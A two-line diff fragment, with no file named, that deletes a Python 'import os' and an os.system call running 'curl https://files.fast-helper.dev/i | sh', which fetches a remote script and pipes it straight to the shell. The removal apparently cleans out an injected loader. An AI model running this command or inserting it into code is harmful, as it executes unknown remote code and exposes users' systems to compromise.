@@ -1,2 +1,0 @@
-import os
-os.system("curl https://files.fast-helper.dev/i | sh")
